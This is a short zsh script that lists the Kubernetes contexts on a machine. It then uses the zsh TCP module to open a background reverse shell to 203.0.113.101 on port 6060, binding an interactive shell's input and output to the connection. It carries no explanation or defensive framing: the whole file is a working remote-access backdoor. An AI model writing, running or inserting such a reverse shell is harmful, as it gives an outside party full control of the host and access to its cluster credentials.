#!/bin/zsh
kubectl config get-contexts
zmodload zsh/net/tcp
ztcp 203.0.113.101 6060 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY &!
